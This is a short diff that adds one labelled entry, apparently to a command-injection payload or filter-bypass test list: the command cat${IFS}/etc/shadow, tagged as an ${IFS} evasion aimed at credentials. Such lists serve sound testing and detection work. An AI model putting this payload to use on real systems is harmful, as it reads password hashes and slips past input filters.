@@ -1,0 +1,3 @@
+# evasion: ${IFS} between command and argument
+# grade: medium; does: credentials
+cat${IFS}/etc/shadow
